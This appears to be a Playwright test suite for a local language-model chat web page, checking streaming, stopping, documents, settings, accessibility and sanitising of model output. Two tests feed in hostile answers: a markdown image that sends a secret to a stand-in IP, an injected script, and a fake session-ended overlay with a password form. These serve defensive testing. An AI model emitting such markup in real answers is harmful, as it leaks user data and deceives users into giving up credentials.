"""The page in a real Chromium, over a fake engine."""

from __future__ import annotations

import contextlib
import random
import time
from pathlib import Path

import pytest
from fake_engine import out_of_memory
from test_following import ALL_WORDS, wait_for
from test_html_pieces import contrast

pytest.importorskip("playwright.sync_api", reason="playwright is not installed")

from browsing import Visitor, ask, chromium, open_tab, text_of, wait_for_text
from playwright.sync_api import TimeoutError as PlaywrightTimeout
from served import serve_fake

pytestmark = pytest.mark.browser

PHONE = (390, 844)
LINE = "The keeper wrote down the weather and counted the ships that passed.\n"
SLOW = 0.08
CUT_STREAM = ("ERR_INCOMPLETE_CHUNKED_ENCODING", "TypeError: network error")
"""A stream that the server broke off, as the browser and as Gradio's script call it."""


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    with serve_fake(tmp_path_factory.mktemp("data")) as site:
        yield site


@pytest.fixture(scope="module")
def window():
    with chromium() as window:
        yield window


@pytest.fixture
def visit(window, site):
    """Open windows; at the end nothing may have been fetched from elsewhere or gone wrong."""
    visitors = []

    def open_window(**settings) -> Visitor:
        visitors.append(Visitor(window, site.url, **settings))
        return visitors[-1]

    yield open_window
    for visitor in visitors:
        visitor.close()
    site.rest()
    for visitor in visitors:
        assert visitor.foreign_requests() == []
        assert visitor.complaints == []


@pytest.fixture
def page(visit):
    return visit().page


@pytest.fixture
def document(tmp_path) -> Path:
    path = tmp_path / "field notes.md"
    path.write_text(LINE * 100)
    return path


def open_document(page, path: Path) -> None:
    open_tab(page, "Documents")
    page.set_input_files("#doc-file input[type=file]", str(path))
    wait_for_text(page, "#doc-card", "tokens")


def read_document(page, path: Path) -> None:
    open_document(page, path)
    wait_for_text(page, "#doc-fit", "Fits")
    page.click("#doc-read")
    page.wait_for_selector("#doc-box textarea", state="visible")


def test_the_first_look_explains_itself(page):
    assert "Ask anything" in text_of(page, "#chat-log")
    assert "Scripted-1B" in text_of(page, "#model-line")
    assert "running on the processor" in text_of(page, "#model-line")
    wait_for_text(page, "#chat-gauge", "2,048 more tokens")
    assert not page.locator("#chat-stop").is_visible()
    assert page.locator("#chat-box textarea").is_editable()


def test_the_page_is_there_while_the_model_is_still_being_loaded(window, tmp_path):
    with serve_fake(tmp_path, is_loaded=False) as site:
        # ten steps: long enough to write something meanwhile on a busy machine
        site.script.load_delay_s = 1.0
        site.services.models.load(None)
        visitor = Visitor(window, site.url)
        page = visitor.page
        assert "You can write already" in text_of(page, "#model-line")
        ask(page, "hello")
        wait_for_text(page, "#chat-status", "until the model is loaded")
        wait_for_text(page, "#chat-log", ALL_WORDS, timeout_s=40)
        wait_for_text(page, "#model-line", "Scripted-1B")
        visitor.close()


def test_an_answer_is_streamed_word_by_word_and_then_measured(page, site):
    site.script.token_delay_s = SLOW
    ask(page, "Count to twelve")
    wait_for_text(page, "#chat-log", "one two")
    assert ALL_WORDS not in text_of(page, "#chat-log")
    assert page.locator("#chat-stop").is_visible()
    assert page.input_value("#chat-box textarea") == ""
    wait_for_text(page, "#chat-log", ALL_WORDS)
    page.wait_for_selector("#chat-send", state="visible")
    wait_for_text(page, "#chat-figures", "Measured factor")
    assert "12 tokens" in text_of(page, "#chat-figures")
    page.wait_for_selector("#chat-plot .js-plotly-plot .bars")
    assert page.locator("#chat-gauge [role=meter]").get_attribute("aria-valuenow") != "0"


def test_stop_during_prefill_frees_the_engine_within_a_chunk(page, site):
    site.script.chunk_delay_s, site.script.chunk_tokens = 0.05, 1
    ask(page, "word " * 300)
    wait_for_text(page, "#chat-status", "Reading")
    page.click("#chat-stop")
    wait_for_text(page, "#chat-status", "Stopped")
    page.wait_for_selector("#chat-send", state="visible")
    assert site.engine.waiting == 0
    site.script.chunk_delay_s = 0.0
    ask(page, "Count")
    wait_for_text(page, "#chat-log", ALL_WORDS)


def test_escape_stops_and_the_partial_answer_stays(page, site):
    site.script.token_delay_s = SLOW
    ask(page, "Count")
    wait_for_text(page, "#chat-log", "one two")
    page.keyboard.press("Escape")
    wait_for_text(page, "#chat-status", "Stopped")
    shown = text_of(page, "#chat-log")
    assert "one two" in shown
    assert "twelve" not in shown
    site.script.token_delay_s = 0.0
    page.click("#chat-again")
    wait_for_text(page, "#chat-log", ALL_WORDS)


def test_slash_goes_to_the_input(page):
    page.locator("#chat-preset").click()
    page.locator("body").press("/")
    assert page.evaluate("document.activeElement.closest('#chat-box') !== null")
    page.keyboard.type("a/b")
    assert page.input_value("#chat-box textarea") == "a/b"


def test_loading_the_page_again_in_mid_answer_brings_chat_and_answer_back(page, site):
    site.script.token_delay_s = 1.0
    ask(page, "Count to twelve")
    wait_for_text(page, "#chat-log", "one")
    page.reload()
    wait_for_text(page, "#chat-status", "the answer went on")
    site.script.token_delay_s = 0.0
    assert "Count to twelve" in text_of(page, "#chat-log")
    wait_for_text(page, "#chat-log", ALL_WORDS)
    wait_for_text(page, "#chat-figures", "12 tokens")
    assert len(site.engine.prompts[-1]) < 200


def test_an_answer_nobody_comes_back_for_is_stopped(visit, site, monkeypatch):
    monkeypatch.setattr(site.services.sessions, "_grace_s", 0.2)
    visitor = visit()
    site.script.token_delay_s = 1.0
    ask(visitor.page, "Count to twelve")
    wait_for_text(visitor.page, "#chat-log", "one")
    readings = []
    monkeypatch.setattr(site.services, "memory", lambda: readings.append(1))
    visitor.close()
    wait_for(lambda: site.engine.is_idle, timeout_s=5)
    # nor is a page that is gone kept up to date
    time.sleep(1.5)
    readings.clear()
    time.sleep(1.5)
    assert readings == []


def test_a_second_tab_is_answered_while_the_first_goes_on(visit, site):
    visitor = visit()
    site.script.token_delay_s = 0.6
    ask(visitor.page, "first")
    wait_for_text(visitor.page, "#chat-log", "one")
    other = visitor.new_tab()
    ask(other, "second")
    wait_for_text(other, "#chat-log", "one")
    assert ALL_WORDS not in text_of(visitor.page, "#chat-log")
    site.script.token_delay_s = 0.0
    wait_for_text(other, "#chat-log", ALL_WORDS)
    wait_for_text(visitor.page, "#chat-log", ALL_WORDS)
    assert "first" not in text_of(other, "#chat-log")


def test_out_of_memory_is_shown_and_the_next_question_works(page, site):
    site.script.fail_next = out_of_memory()
    ask(page, "too much")
    wait_for_text(page, "#chat-status", "ran out of memory")
    assert "too much" in text_of(page, "#chat-log")
    ask(page, "less")
    wait_for_text(page, "#chat-log", ALL_WORDS)


def test_an_answer_can_run_no_script_and_fetch_no_image(visit, site):
    visitor = visit()
    page = visitor.page
    site.script.answer = lambda _prompt, _config: (
        "Look: ![x](http://198.51.100.7/leak.png?secret) "
        "<img src='http://198.51.100.7/two.png'> <script>document.title='taken'</script> end"
    )
    ask(page, "Show me")
    wait_for_text(page, "#chat-log", "end")
    page.wait_for_timeout(500)
    assert visitor.foreign_requests() == []
    assert page.title() == "Nexusquant"
    # not even the attempt was made
    assert not [text for text in visitor.complaints if "198.51.100.7" in text]
    assert page.locator("#chat-log .message img, #chat-log .message script").count() == 0


TYPED = """2*3*4 and ~tilde~ *x* _a_ `code` # no
# head
  two blanks
    four blanks

- item
1. one
<b>bold</b> <img src=x> &amp; &lt; \\* | a | b |
[l](http://x.y) ![i](http://x.y/z) $$x^2$$ http://x.y/z"""


def test_what_a_person_typed_is_shown_and_copied_as_typed(page):
    ask_typed(page, TYPED)
    wait_for_text(page, "#chat-log", ALL_WORDS)
    message = page.locator("#chat-log .user .md").first
    # an empty line is drawn as one blank
    assert message.inner_text().replace("\n \n", "\n\n") == TYPED
    assert message.locator("img, b, em, code, a, h1, li, del").count() == 0
    copied = message.evaluate(COPIED)
    assert copied.replace("\n \n", "\n\n") == TYPED


COPIED = """(element) => {
  const range = document.createRange();
  range.selectNodeContents(element);
  getSelection().removeAllRanges();
  getSelection().addRange(range);
  const event = new ClipboardEvent('copy', {
    bubbles: true, cancelable: true, clipboardData: new DataTransfer()});
  element.dispatchEvent(event);
  // nothing is set where the selection is right as it stands
  return event.clipboardData.getData('text/plain') || getSelection().toString();
}"""


def ask_typed(page, text: str) -> None:
    page.fill("#chat-box textarea", text)
    page.click("#chat-send")


def test_an_answer_keeps_its_numbers_formulas_and_markdown(page, site):
    site.script.answer = lambda *_: (
        "It is 2*3*4 = 24, about ~5 to ~6, **bold** and 2**3, x*(y+z)*2. "
        "Also \\(x^2 + y\\) and $$\\frac{1}{2}$$ for $5 and $6. end"
    )
    ask(page, "Show me")
    wait_for_text(page, "#chat-log", "end")
    answer = page.locator("#chat-log .bot .md").first
    for words in ("2*3*4 = 24", "~5 to ~6", "2**3", "x*(y+z)*2", "$5 and $6"):
        assert words in answer.inner_text()
    assert answer.locator("strong").inner_text() == "bold"
    assert answer.locator(".katex").count() == 2
    assert answer.locator("em, del").count() == 0


def test_an_answer_cannot_cover_the_page_or_ask_for_a_password(page, site):
    site.script.answer = lambda *_: (
        "<div style='position:fixed;inset:0;z-index:9999'>Your session has ended</div>"
        "<form action=/logout method=post><input type=password><button>Log in</button></form>"
        "<video poster=/x autoplay></video><style>* {display: none}</style> end"
    )
    ask(page, "Show me")
    wait_for_text(page, "#chat-log", "end")
    answer = page.locator("#chat-log .bot .md").first
    assert answer.locator("form, input, button, video, style, [style*=fixed]").count() == 0
    assert "Your session has ended" in answer.inner_text()
    assert page.locator("#chat-box textarea").is_editable()


def test_a_preset_changed_in_mid_chat_says_what_it_means_on_every_tab(page):
    ask(page, "Count")
    wait_for_text(page, "#chat-log", ALL_WORDS)
    page.get_by_label("Safe").first.check()
    wait_for_text(page, "#chat-status", "read again")
    wait_for_text(page, "#chat-preset-text", "Every token is kept")
    open_tab(page, "Settings")
    wait_for_text(page, "#set-preset-text", "Every token is kept")


def test_a_document_is_counted_read_and_answered_from_with_its_pages(page, site, document):
    open_document(page, document)
    assert "field notes.md" in text_of(page, "#doc-card")
    assert "1,200 tokens" in text_of(page, "#doc-card")
    site.script.chunk_delay_s = 0.1
    page.click("#doc-read")
    wait_for_text(page, "#doc-status", "Reading page")
    wait_for_text(page, "#doc-status", "tok/s")
    page.wait_for_selector("#doc-box textarea", state="visible")
    site.script.chunk_delay_s = 0.0
    site.script.answer = lambda _prompt, _config: "He counted the ships [p. 2]."
    page.fill("#doc-box textarea", "What did he count?")
    page.press("#doc-box textarea", "Enter")
    wait_for_text(page, "#doc-log", "counted the ships [p. 2]")
    page.get_by_role("radio", name="p. 2").check()
    wait_for_text(page, "#doc-page", "Page 2")
    assert "counted the ships that passed" in text_of(page, "#doc-page")
    page.click("#doc-strip [data-page='1']")
    wait_for_text(page, "#doc-page", "Page 1")


def test_a_document_too_long_is_offered_page_by_page(page, tmp_path):
    path = tmp_path / "long.txt"
    path.write_text(LINE * 250)
    open_document(page, path)
    wait_for_text(page, "#doc-fit", "Does not fit")
    page.click("#doc-fewer")
    wait_for_text(page, "#doc-fit", "Fits")
    page.click("#doc-read")
    page.wait_for_selector("#doc-box textarea", state="visible")


def test_reading_can_be_stopped(page, site, document):
    open_document(page, document)
    site.script.chunk_delay_s, site.script.chunk_tokens = 0.05, 4
    page.click("#doc-read")
    wait_for_text(page, "#doc-status", "Reading page")
    page.click("#doc-stop")
    wait_for_text(page, "#doc-status", "Reading was stopped")
    assert not page.locator("#doc-box").is_visible()


@pytest.mark.parametrize("tab", ["Chat", "Documents", "Compare", "Settings"])
def test_every_button_says_what_it_does_when_its_tab_is_first_opened(page, tab):
    open_tab(page, tab)
    page.wait_for_function(
        "() => [...document.querySelectorAll('button')].every("
        "b => !b.checkVisibility() || b.innerText.trim() || b.ariaLabel || b.title)"
    )


def test_two_settings_are_compared_side_by_side(page, site):
    site.script.token_delay_s = 0.04
    site.script.answer = lambda _prompt, config: (
        "the sky is blue today" if config.is_off else "the sky is green today"
    )
    open_tab(page, "Compare")
    page.fill("#cmp-box textarea", "What colour is it?")
    page.click("#cmp-run")
    wait_for_text(page, "#cmp-right", "Waits for the other side")
    wait_for_text(page, "#cmp-table", "word 4 of 5")
    assert page.locator("#cmp-left mark").inner_text() == "blue"
    assert page.locator("#cmp-right mark").inner_text() == "green"
    assert "First token" in text_of(page, "#cmp-table")
    assert page.locator("#cmp-run").inner_text() == "Compare"


def test_a_model_is_loaded_from_settings_with_its_progress_shown(page, site):
    open_tab(page, "Settings")
    page.fill("#set-model textarea, #set-model input", "missing/model")
    site.script.load_delay_s = 0.05
    page.click("#set-load")
    wait_for_text(page, "#model-line", "Reading weights")
    wait_for_text(page, "#set-model-status", "could not be loaded")
    assert "torch: " in page.input_value("#set-diagnostics textarea")


def test_a_model_of_the_list_goes_into_the_field(page, site):
    open_tab(page, "Settings")
    page.click("#set-model-list input")
    page.get_by_role("option", name="Phi-4-mini-instruct").click()
    wait_for_text(page, "#set-model-facts", "MIT. Context 131,072 tokens")
    name = page.input_value("#set-model textarea, #set-model input")
    assert name == "microsoft/Phi-4-mini-instruct"
    assert page.input_value("#set-weights input") == "4 bits"


def test_an_access_token_is_hidden_and_gone_once_it_was_taken(page, site):
    open_tab(page, "Settings")
    page.fill("#set-token input", "hf_secret")
    assert page.get_attribute("#set-token input", "type") == "password"
    site.script.load_delay_s = 0.05
    page.click("#set-load")
    wait_for_text(page, "#set-model-status", "ready")
    assert site.engine.used_token == "hf_secret"
    assert page.input_value("#set-token input") == ""


def test_a_message_that_is_too_long_is_answered_once_the_offer_is_taken(page, site):
    page.fill("#chat-box textarea", "word " * 3000)
    page.click("#chat-send")
    page.click("#chat-offer")
    wait_for_text(page, "#chat-status", "Positions are scaled here (yarn, factor 1.5)")
    assert page.locator("#chat-offer").is_hidden()
    page.click("#chat-clear")
    page.locator("#chat-status:has-text('Positions are scaled')").wait_for(state="hidden")


def test_pages_that_were_left_make_room_for_others(window, tmp_path, monkeypatch):
    monkeypatch.setattr("ui.layout.MAX_RUNNING_EVENTS", 6)
    with serve_fake(tmp_path) as site:
        for _ in range(8):
            visitor = Visitor(window, site.url)
            ask(visitor.page, "Count")
            wait_for_text(visitor.page, "#chat-log", ALL_WORDS)
            visitor.close()


def test_a_phone_never_scrolls_sideways(visit, site, document):
    page = visit(size=PHONE).page
    code = "```python\n" + "x = call(" + "argument, " * 40 + ")\n```"
    site.script.answer = lambda _prompt, _config: f"{'VeryLong' * 40}\n\n{code}\n\nend"
    ask(page, "A_very_long_word_without_any_break_" * 8)
    wait_for_text(page, "#chat-log", "end")
    read_document(page, document)
    for name in ("Chat", "Documents", "Compare", "Settings"):
        open_tab(page, name)
        assert page.evaluate("document.documentElement.scrollWidth") <= 390, name
    assert (
        page.evaluate(
            "parseFloat(getComputedStyle(document.querySelector('#chat-box textarea')).fontSize)"
        )
        >= 16
    )


BACKGROUND_AND_INK = """(selector) => {
  const parse = (c) => c.match(/[\\d.]+/g).map(Number);
  const element = document.querySelector(selector);
  let below = element;
  while (below && (parse(getComputedStyle(below).backgroundColor)[3] ?? 1) === 0) {
    below = below.parentElement;
  }
  const two = (n) => Math.round(n).toString(16).padStart(2, '0');
  const hex = (c) => '#' + parse(c).slice(0, 3).map(two).join('');
  const background = getComputedStyle(below || document.body).backgroundColor;
  return [hex(getComputedStyle(element).color), hex(background)];
}"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_text_can_be_read_on_light_and_dark(visit, scheme):
    page = visit(scheme=scheme).page
    ask(page, "Count")
    wait_for_text(page, "#chat-figures", "Measured factor")
    selectors = (".nq-head h1", ".nq-line", ".nq-figures i", ".nq-figures span", ".nq-card h3",
                 ".nq-quiet", ".nq-under", "#chat-send", "[role=tab][aria-selected=true]",
                 "#chat-log .message.bot", "#chat-log .message.user")  # fmt: skip
    for selector in selectors:
        ink, background = page.evaluate(BACKGROUND_AND_INK, selector)
        assert contrast(ink, background) >= 4.5, (selector, ink, background)
    ink, background = page.evaluate(BACKGROUND_AND_INK, ".nq-head h1")
    assert (ink > background) is (scheme == "dark")


def test_screen_readers_get_a_meter_and_phases(page):
    assert page.locator("#chat-gauge [role=meter]").get_attribute("aria-label") == "Context used"
    ask(page, "Count")
    wait_for_text(page, "#chat-log", ALL_WORDS)
    page.wait_for_selector(
        "#chat-spoken [aria-live=polite] >> text=done, 12 words", state="attached"
    )


def test_fifty_random_events_never_run_two_jobs_at_once(visit, site):
    dice = random.Random(20261123)
    site.script.token_delay_s, site.script.chunk_delay_s = 0.01, 0.01
    site.script.chunk_tokens = 8
    visitor = visit()
    tabs = [visitor.page, visitor.new_tab()]
    before = len(site.engine.prompts)
    for number in range(50):
        page = dice.choice(tabs)
        event = dice.choices(["start", "stop", "again", "refresh"], [5, 4, 2, 1])[0]
        if event == "refresh":
            page.reload(wait_until="commit")
            page.wait_for_selector("#chat-box textarea")
        elif event == "start":
            ask(page, f"question {number} " + "word " * dice.randrange(80))
        else:
            button = page.locator("#chat-stop" if event == "stop" else "#chat-again")
            # it may be gone before the mouse is there, as for a person
            with contextlib.suppress(PlaywrightTimeout):
                if button.is_visible():
                    button.click(timeout=250)
        time.sleep(dice.random() * 0.1)
    for page in tabs:
        with contextlib.suppress(PlaywrightTimeout):
            page.click("#chat-stop", timeout=250)
        page.wait_for_selector("#chat-send", state="visible")
    wait_for(lambda: site.engine.waiting == 0)
    assert site.engine.num_overlaps == 0
    assert len(site.engine.prompts) - before >= 10
    site.script.token_delay_s = 0.0
    for number, page in enumerate(tabs):
        ask(page, f"still alive, {number}?")
        wait_for_text(page, "#chat-log", f"still alive, {number}?")
        wait_for_text(page, "#chat-figures", "12 tokens")
        page.wait_for_selector("#chat-send", state="visible")
    # Gradio breaks off a stream that opens just as the last message of its page was delivered, and
    # opens another: both pages have gone on, as was seen
    visitor.complaints[:] = [
        text for text in visitor.complaints if not any(cut in text for cut in CUT_STREAM)
    ]


def test_presets_are_tested_while_one_chats_and_an_unsafe_one_is_asked_about(visit, site):
    site.script.test_delay_s = 60
    page = visit().page
    wait_for_text(page, "#chat-preset-text", "Not yet tested on this model.")
    site.services.models.load(None)
    ask(page, "Count")
    wait_for_text(page, "#chat-log", ALL_WORDS)
    open_tab(page, "Settings")
    wait_for_text(page, "#set-test-status", "Testing presets: safe (1 of 4)")
    page.click("#set-stop-test")
    wait_for_text(page, "#set-test-status", "Stopping the test.")
    site.script.test_delay_s = 0.0
    wait_for_text(page, "#set-test-status", "was stopped")
    page.click("#set-test")
    wait_for_text(page, "#set-presets", "unsafe for this model")
    assert "413" in page.get_by_role("row", name="Max").inner_text()
    wait_for_text(page, "#set-test", "Test again")
    open_tab(page, "Chat")
    wait_for_text(page, "#chat-preset-text", "15.9× smaller, KL 0.029")
    page.locator("#chat-preset").get_by_label("Max (unsafe here)").click()
    wait_for_text(page, "#chat-preset-question", "KL 0.413, where 0.1 is the limit")
    assert page.locator("#chat-preset").get_by_label("Balanced").is_checked()
    page.click("#chat-preset-keep >> text=Keep Balanced")
    page.wait_for_selector("#chat-preset-question", state="hidden")
    page.locator("#chat-preset").get_by_label("Max (unsafe here)").click()
    page.click("#chat-preset-anyway >> text=Use Max anyway")
    wait_for_text(page, "#chat-preset-text", "Max is unsafe for this model")
    assert page.locator("#chat-preset").get_by_label("Max (unsafe here)").is_checked()
    page.wait_for_selector("#chat-preset-question", state="hidden")
